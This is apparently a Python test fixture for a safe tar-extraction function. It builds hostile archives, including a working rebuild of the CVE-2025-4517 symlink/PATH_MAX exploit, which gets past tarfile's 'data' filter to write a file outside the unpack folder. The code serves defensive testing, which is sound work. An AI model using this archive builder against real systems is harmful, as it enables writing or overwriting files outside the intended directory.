"""Tar archives a task could send as an attack (``cli.safe_untar``'s tests)."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path


def archive(*members: tuple[tarfile.TarInfo, bytes | None]) -> io.BytesIO:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    buffer.seek(0)
    return buffer


def file(name: str, data: bytes = b"x\n", mode: int = 0o644) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.mode = mode
    return info, data


def folder(name: str) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    info.mode = 0o755
    return info, None


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info, None


def cve_2025_4517(outside: Path, where: Path) -> io.BytesIO:
    """The published proof of concept of CVE-2025-4517, aimed at ``outside``: symlinks whose
    resolved path passes ``PATH_MAX`` make ``os.path.realpath`` stop resolving, so the
    ``data`` filter judges ``escape`` by its text, which looks inside. ``where``: the
    folder it will be unpacked in (the link climbs from there to ``/``)."""
    component = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    path = ""
    for step in steps:
        members.append(folder(os.path.join(path, component)))
        members.append(link(os.path.join(path, step), component))
        path = os.path.join(path, component)
    long_link = os.path.join(*steps, "l" * 254)
    members.append(link(long_link, "../" * len(steps)))
    depth = len(where.parts) - 1
    members.append(link("escape", f"{long_link}/{'../' * depth}{str(outside).lstrip('/')}"))
    members.append(file("escape/pwned", b"written by the task\n"))
    return archive(*members)
